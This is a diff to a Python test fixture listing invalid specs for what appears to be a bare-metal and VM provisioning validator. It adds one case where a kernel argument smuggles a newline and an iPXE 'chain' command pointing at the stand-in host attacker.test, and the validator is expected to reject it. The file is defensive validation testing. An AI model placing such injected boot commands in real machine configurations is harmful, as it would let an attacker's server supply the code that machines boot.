@@ -257,6 +257,8 @@ def invalid_samples() -> list[Invalid]:
     template_both["spec"]["template"]["spec"]["baremetal"]["osProfile"] = installer
     bad_checksum = _sample(kinds.BAREMETAL_INSTANCE)
     bad_checksum["spec"]["image"]["checksum"] = "md5:0123"
+    injected = copy.deepcopy(neither)
+    injected["spec"]["os"] = {**installer, "kernelArgs": ["console=ttyS0\nchain http://attacker.test/"]}
     return [
         Invalid("vm and baremetal both set", both, "exactly one of spec.vm and spec.baremetal must be set"),
         Invalid("bad CIDR in an IPPool", bad_cidr, "must be an IP address, a CIDR"),
@@ -273,4 +275,5 @@ def invalid_samples() -> list[Invalid]:
         Invalid("root device hints for an installer", hints_for_installer, "rootDeviceHints need image"),
         Invalid("machine with image and osProfile", template_both, "exactly one of image and osProfile"),
         Invalid("checksum neither digest nor URL", bad_checksum, "spec.image.checksum"),
+        Invalid("iPXE command in a kernel argument", injected, "spec.os.kernelArgs[0]"),
     ]
